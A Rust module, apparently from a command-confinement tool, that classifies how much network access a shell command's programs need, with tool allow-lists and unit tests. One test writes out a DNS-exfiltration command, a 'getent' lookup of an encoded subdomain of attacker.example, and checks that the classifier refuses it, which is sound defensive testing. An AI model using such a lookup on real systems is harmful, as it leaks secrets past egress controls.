//! What of the network a command's programs use, so a confined run is
//! given that and no more (`nomos-confine --net none|view|host`). Found
//! by the same walk that judges the command, so a program the walk never
//! reaches (hidden in a string, started by something it could not follow)
//! adds nothing: a missed program only takes access away.

use std::fmt;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

/// How much of the network a command needs. Ordered: a command needs the
/// most any of its programs needs.
#[derive(
    Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize,
)]
#[serde(rename_all = "snake_case")]
pub enum NetworkUse {
    /// Nothing: it runs in a network of its own with only a loopback.
    #[default]
    None,
    /// The host's interfaces, routes and sockets to read (netlink); no IP
    /// socket at all.
    Inspects,
    /// [`NetworkUse::Inspects`], and the abstract Unix sockets Proxmox's
    /// and LXC's tools talk to pmxcfs and the containers' monitors over.
    Cluster,
    /// It reaches the places its words name, each of which the classifier
    /// checked against the egress policy ([`crate::Egress`]): IP sockets
    /// in the host's network.
    Reaches,
}

impl NetworkUse {
    pub fn as_str(self) -> &'static str {
        match self {
            NetworkUse::None => "none",
            NetworkUse::Inspects => "inspects",
            NetworkUse::Cluster => "cluster",
            NetworkUse::Reaches => "reaches",
        }
    }
}

impl fmt::Display for NetworkUse {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("`{0}` is not a network use; use none, inspects, cluster or reaches")]
pub struct UnknownNetworkUse(pub String);

impl FromStr for NetworkUse {
    type Err = UnknownNetworkUse;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "none" => Ok(NetworkUse::None),
            "inspects" => Ok(NetworkUse::Inspects),
            "cluster" => Ok(NetworkUse::Cluster),
            "reaches" => Ok(NetworkUse::Reaches),
            other => Err(UnknownNetworkUse(other.to_string())),
        }
    }
}

/// Programs that read the host's network state.
#[rustfmt::skip]
const INSPECTS: &[&str] = &[
    "ss", "netstat", "nstat", "ip", "ifconfig", "arp", "route", "bridge", "brctl", "ethtool",
    "iw", "iwconfig", "tc", "lsof", "hostname", "hostnamectl", "iptables",
    "iptables-save", "ip6tables", "ip6tables-save", "nft", "ebtables", "conntrack",
    "iptables-legacy-save", "ip6tables-legacy-save", "iptables-nft-save", "ip6tables-nft-save",
    "networkctl",
];

/// Proxmox's, LXC's and corosync's tools, which ask pmxcfs, the
/// containers' monitors and corosync over abstract Unix sockets (libqb's
/// default), bound in the host's network namespace.
#[rustfmt::skip]
const CLUSTER: &[&str] = &[
    "pct", "qm", "pvesh", "pvecm", "pvesm", "pvenode", "pveversion", "ha-manager",
    "pvesubscription", "pveam", "pvereport", "pve-firewall", "pveperf", "lxc-info", "lxc-ls",
    "corosync-cfgtool", "corosync-quorumtool", "corosync-cmapctl",
];

/// What `program` (a bare name) uses of the network.
pub(crate) fn use_of(program: &str) -> NetworkUse {
    if crate::egress::reaches(program) {
        NetworkUse::Reaches
    } else if CLUSTER.contains(&program) {
        NetworkUse::Cluster
    } else if INSPECTS.contains(&program) {
        NetworkUse::Inspects
    } else {
        NetworkUse::None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Egress, RiskClass, classify, classify_with};

    #[test]
    fn words_round_trip_and_order() {
        for n in [
            NetworkUse::None,
            NetworkUse::Inspects,
            NetworkUse::Cluster,
            NetworkUse::Reaches,
        ] {
            assert_eq!(n.as_str().parse::<NetworkUse>(), Ok(n));
        }
        assert!(NetworkUse::None < NetworkUse::Inspects);
        assert!(NetworkUse::Inspects < NetworkUse::Cluster);
        assert!(NetworkUse::Cluster < NetworkUse::Reaches);
        assert!("host".parse::<NetworkUse>().is_err());
    }

    #[test]
    fn a_command_needs_the_most_any_program_it_starts_needs() {
        let cases = [
            ("cat /etc/hostname", NetworkUse::None),
            ("df -h; free -m", NetworkUse::None),
            ("ss -ltn", NetworkUse::Inspects),
            ("ip -br addr | grep UP", NetworkUse::Inspects),
            ("pct list", NetworkUse::Cluster),
            ("sudo /usr/sbin/qm status 100", NetworkUse::Cluster),
            ("getent hosts pve.lan", NetworkUse::Reaches),
            ("ping -c1 192.168.1.10", NetworkUse::Reaches),
            (
                "uptime && curl -s http://10.0.0.5:8080/health",
                NetworkUse::Reaches,
            ),
            ("timeout 5 nice dig +short pve.lan", NetworkUse::Reaches),
            ("bash -c 'ss -s'", NetworkUse::Inspects),
        ];
        for (command, expected) in cases {
            let c = classify(command, None);
            assert_eq!(c.class, RiskClass::ReadOnly, "{command}: {}", c.reason);
            assert_eq!(c.network, expected, "{command}");
        }
    }

    #[test]
    fn a_program_named_only_in_data_gives_nothing() {
        // Words in an argument are not programs the command starts.
        for command in [
            "echo curl http://10.0.0.1",
            "grep -r ping /etc/hosts",
            // A tool named in a quoted word starts nothing.
            "echo \"qm\"",
        ] {
            assert_eq!(
                classify(command, None).network,
                NetworkUse::None,
                "{command}"
            );
        }
    }

    #[test]
    fn a_lookup_is_checked_like_any_destination() {
        // With a checked program beside it, an unchecked lookup would
        // send an attacker's name out through the resolver.
        let exfil =
            "curl -s http://127.0.0.1:8006/ -o /dev/null; getent ahosts c2VjcmV0.attacker.example";
        assert_ne!(classify(exfil, None).class, RiskClass::ReadOnly);
        for lab in ["getent hosts pve.lan", "getent ahostsv4 10.0.0.5"] {
            assert_eq!(classify(lab, None).class, RiskClass::ReadOnly, "{lab}");
        }
    }

    #[test]
    fn reaching_outside_the_egress_policy_is_not_read_only() {
        let c = classify_with(
            "curl -s https://example.org/",
            None,
            &Egress::loopback_only(),
        );
        assert_ne!(c.class, RiskClass::ReadOnly);
        let c = classify_with(
            "curl -s https://example.org/",
            None,
            &Egress::new(["example.org"]),
        );
        assert_eq!(c.class, RiskClass::ReadOnly, "{}", c.reason);
        assert_eq!(c.network, NetworkUse::Reaches);
    }
}
